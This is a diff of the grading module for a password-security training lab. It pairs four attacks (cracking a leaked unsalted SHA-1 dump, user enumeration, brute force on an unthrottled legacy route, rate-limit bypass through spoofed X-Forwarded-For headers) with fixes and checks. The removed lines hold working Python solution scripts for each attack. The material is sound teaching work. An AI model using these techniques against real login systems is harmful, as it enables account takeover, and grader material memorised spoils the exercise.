@@ -17,6 +17,7 @@ import httpx
 from labapp.engine.grading import Attack, Check, Observed
 from labapp.lessons.common import load_wordlist
 from labapp.lessons.l03_passwords.attempts import LIMIT
+from labapp.lessons.l03_passwords.causes import explained
 from labapp.lessons.l03_passwords.enumeration import attack_enumerate_users, attack_legacy_compare
 from labapp.lessons.l03_passwords.hashes import (
     OWASP_ARGON2I,
@@ -24,6 +25,7 @@ from labapp.lessons.l03_passwords.hashes import (
     hash_problem,
     legacy_sha1,
 )
+from labapp.lessons.l03_passwords.hints import BRUTE, BYPASS, CRACK, ENUMERATE
 from labapp.lessons.l03_passwords.throttling import (
     attack_brute_force,
     attack_login_burst,
@@ -178,83 +180,12 @@ def check_exact_password(lab: Any, http: httpx.Client) -> Observed:
     return Observed(True, 200, f"the passphrase logged in; all {misses} near misses were refused")
 
 
-CRACK_STEPS = """\
-1. Read GET /backup/accounts.csv: a username and 'sha1$' + the SHA-1 of the password.
-2. SHA-1 every word of load_wordlist() once, into a dict from 'sha1$<hex>' to the word.
-3. Look each leaked hash up; log in as a customer you cracked; the answer holds the flag.
-```python
-import hashlib
-from labapp.lessons.common import load_wordlist
-
-lines = lab.client.get("/backup/accounts.csv").text.splitlines()[1:]
-leaked = dict(line.split(",") for line in lines)  # username -> "sha1$<hex>"
-table = {"sha1$" + hashlib.sha1(w.encode()).hexdigest(): w for w in load_wordlist()}
-user, password = next((u, table[h]) for u, h in leaked.items() if h in table)
-answer = lab.client.post("/login", json={"username": user, "password": password})
-lab.check_flag("crack-dump", answer.json()["flag"])
-```"""
-
-ENUMERATE_STEPS = """\
-1. Send every name in CANDIDATES to POST /v1/login with any password (it never says 429).
-2. Every name that does not exist gets 404 {"detail": "no such user"}; one gets 401 instead.
-3. That one's answer carries support_ref: it is the flag.
-```python
-from labapp.lessons.l03_passwords.app import CANDIDATES
-
-answers = {}
-for name in CANDIDATES:
-    answers[name] = lab.client.post("/v1/login", json={"username": name, "password": "x1"})
-odd = [name for name, a in answers.items() if a.json() != {"detail": "no such user"}]
-print("exists:", odd)
-lab.check_flag("enumerate-users", answers[odd[0]].json()["support_ref"])
-```"""
-
-BRUTE_STEPS = """\
-1. Try the words of load_wordlist(), in order, as frank's password on POST /v1/login.
-2. Stop at the first 200: /v1/login never counts failures, so nothing stops you before it.
-3. The 200's body holds the flag.
-```python
-from labapp.lessons.common import load_wordlist
-
-for word in load_wordlist():
-    reply = lab.client.post("/v1/login", json={"username": "frank", "password": word})
-    if reply.status_code == 200:
-        break
-lab.check_flag("brute-force", reply.json()["flag"])
-```"""
-
-BYPASS_STEPS = """\
-1. lab.audit() counts your failures 'under key' 'unknown': /login keys its count on
-   X-Forwarded-For, a header a proxy adds, your request lacked, and anyone can write.
-2. Guess grace's password on /login with a new X-Forwarded-For on every try: no key reaches 10.
-3. Stop at the first 200; its body holds the flag.
-```python
-from labapp.lessons.common import load_wordlist
-
-for n, word in enumerate(load_wordlist()):
-    claimed = {"X-Forwarded-For": f"198.51.100.{n % 250 + 1}"}  # a "new client" each time
-    guess = {"username": "grace", "password": word}
-    reply = lab.client.post("/login", json=guess, headers=claimed)
-    if reply.status_code == 200:
-        break
-lab.check_flag("throttle-bypass", reply.json()["flag"])
-```"""
-
 ATTACKS = (
     Attack(
         "crack-dump",
         "two accounts with one common password: are their stored hashes crackable or equal?",
-        (
-            "The API document lists an export from January 2024 that nobody removed. Read it: "
-            "what does each stored value look like, and could you compute the same kind of "
-            "value yourself, for a guess?",
-            "An offline dictionary attack on fast, unsalted hashes (CWE-759 Use of a One-Way "
-            "Hash without a Salt; CWE-916 Use of Password Hash With Insufficient Computational "
-            "Effort; OWASP Password Storage Cheat Sheet): hash every candidate once with the "
-            "same function, then look the leaked values up.",
-            CRACK_STEPS,
-        ),
-        attack_crack_dump,
+        CRACK,
+        explained(attack_crack_dump),
         fix="hash_password: HASHER.hash(password), argon2id with OWASP's parameters "
         "(PasswordHasher(time_cost=2, memory_cost=19456, parallelism=1)) and its default "
         "16-byte salt and 32-byte hash.",
@@ -262,17 +193,8 @@ ATTACKS = (
     Attack(
         "enumerate-users",
         "unknown user vs wrong password (new and old accounts): status, body, and argon2 work",
-        (
-            "In Explore you failed twice: as alice, and as a name nobody has. Put the two "
-            "answers side by side. Forty failures also meet /login's limit: the API document "
-            "lists more than one way to log in.",
-            "User enumeration through an observable response discrepancy (CWE-204 Observable "
-            "Response Discrepancy; OWASP Authentication Cheat Sheet, 'Authentication and Error "
-            "Messages'; ASVS 5.0 6.3.8): any difference between 'no such user' and 'wrong "
-            "password' (status, body or time) tells which names exist.",
-            ENUMERATE_STEPS,
-        ),
-        attack_enumerate_users,
+        ENUMERATE,
+        explained(attack_enumerate_users),
         fix="failure_response: one (401, message) for both 'unknown-user' and 'wrong-password'; "
         "verify_password: for None and for old 'sha1$' hashes, one HASHER.verify(DUMMY_HASH, "
         "password), with DUMMY_HASH made once by HASHER: the same argon2 work as a real check.",
@@ -281,42 +203,23 @@ ATTACKS = (
         "legacy-compare",
         "an old sha1 account and a wrong password: digests compared with hmac.compare_digest",
         ("How does the weak verify_password compare an old hash?",),
-        attack_legacy_compare,
+        explained(attack_legacy_compare),
         fix="verify_password: compare old 'sha1$' hashes with hmac.compare_digest, never ==.",
         flag=False,
     ),
     Attack(
         "brute-force",
         "20 wrong guesses on the old /v1/login, and 6 + 6 across both routes, then the right one",
-        (
-            "You met /login's limit (or try it: ten wrong passwords in a row). Which way in did "
-            "attack 2 use without ever seeing a 429, and what is it kept for?",
-            "An online dictionary attack through a route without a limit (CWE-307 Improper "
-            "Restriction of Excessive Authentication Attempts; OWASP API Security Top 10 2023 "
-            "API2:2023 Broken Authentication, brute force 'without presenting captcha/account "
-            "lockout mechanism', and API9:2023 Improper Inventory Management, an old API "
-            "version left running).",
-            BRUTE_STEPS,
-        ),
-        attack_brute_force,
+        BRUTE,
+        explained(attack_brute_force),
         fix="throttle_key: the username on every route, /v1/login included; never None.",
     ),
     Attack(
         "throttle-bypass",
         "20 wrong guesses on /login, each from a 'new client' (X-Forwarded-For, Host, "
         "User-Agent, every header a client writes), then the right one",
-        (
-            "Guess at grace on /login until it answers 429, then read lab.audit(): every "
-            "failure says which key it was counted 'under'. Where could that key come from, "
-            "and who chooses it?",
-            "A rate-limit bypass by spoofing the client's address: the limit trusts "
-            "X-Forwarded-For, a header the client writes (CWE-348 Use of Less Trusted Source; "
-            "PortSwigger Web Security Academy, 'Flawed brute-force protection'). OWASP's "
-            "Authentication Cheat Sheet ('Account Lockout'): the counter 'should be associated "
-            "with the account itself, rather than the source IP address'.",
-            BYPASS_STEPS,
-        ),
-        attack_throttle_bypass,
+        BYPASS,
+        explained(attack_throttle_bypass),
         fix="throttle_key: count failures per account (the username), never per a header "
         "the client writes; failure_response('throttled'): (429, message).",
     ),
@@ -324,7 +227,7 @@ ATTACKS = (
         "login-burst",
         "30 wrong guesses at one account sent at once on both routes: at most 10 are checked",
         ("What if all the guesses arrive before the first failure is counted?",),
-        attack_login_burst,
+        explained(attack_login_burst),
         fix="throttle_key: the username, whatever the route or the headers, so that every "
         "guess at one account draws on one budget.",
         flag=False,
@@ -334,7 +237,7 @@ ATTACKS = (
         "users with a sha1, a cheap argon2id and an argon2i hash log in: each must become "
         "OWASP argon2id, once",
         ("needs_rehash says False for everything.",),
-        attack_legacy_upgrade,
+        explained(attack_legacy_upgrade),
         fix="needs_rehash: True for anything that is not argon2id or when "
         "HASHER.check_needs_rehash says so, else False; verify_password must still accept "
         "'sha1$' hashes (and argon2i ones: HASHER.verify reads any argon2).",
@@ -342,42 +245,41 @@ ATTACKS = (
     ),
 )
 
-DENIED = "denied too much: "
 CHECKS = (
     Check(
         "customer-login",
         "a customer logs in and the token works on GET /me",
-        check_customer,
-        hint=DENIED + "a customer registered through hash_password could not log in with the "
+        explained(check_customer),
+        hint="a customer registered through hash_password could not log in with the "
         "right password: verify_password must return True when HASHER.verify(stored_hash, "
         "password) succeeds, and needs_rehash False (not None) for a hash made today.",
     ),
     Check(
         "wrong-password-refused",
         "a wrong password gets 401, then the right one works",
-        check_wrong_password,
+        explained(check_wrong_password),
         hint="failure_response: (401, message) for a wrong password (and 429 only when "
         "throttled); then the right password must still log in.",
     ),
     Check(
         "old-account-login",
         "an account from 2016 (a sha1 hash) logs in on both routes",
-        check_old_account,
-        hint=DENIED + "an account whose stored hash is an old 'sha1$' one could not log in: "
+        explained(check_old_account),
+        hint="an account whose stored hash is an old 'sha1$' one could not log in: "
         "verify_password must still check those, with hmac.compare_digest(stored_hash, "
         "old_sha1_hash(password)) (needs_rehash then upgrades them).",
     ),
     Check(
         "register-then-login",
         "a new customer registers, then logs in",
-        check_register,
-        hint=DENIED + "POST /register stores hash_password(password) (a non-empty str); "
+        explained(check_register),
+        hint="POST /register stores hash_password(password) (a non-empty str); "
         "verify_password must then accept the same password against it.",
     ),
     Check(
         "exact-password",
         "a long passphrase (spaces, accents, capitals) logs in as set; 12 near misses do not",
-        check_exact_password,
+        explained(check_exact_password),
         hint="hash_password and verify_password: use the password exactly as received, "
         "whatever its length (up to 1024) or characters: no .lower(), .strip(), slicing or "
         "unicodedata.normalize (ASVS 5.0 6.2.8); a near miss let in was granted too much, "
@@ -386,8 +288,8 @@ CHECKS = (
     Check(
         "other-account-unaffected",
         "after one account is throttled, another still logs in on both routes",
-        check_other_account,
-        hint=DENIED + "one account's failures locked another out: throttle_key must be the "
+        explained(check_other_account),
+        hint="one account's failures locked another out: throttle_key must be the "
         "username, so that every account has a count of its own.",
     ),
 )
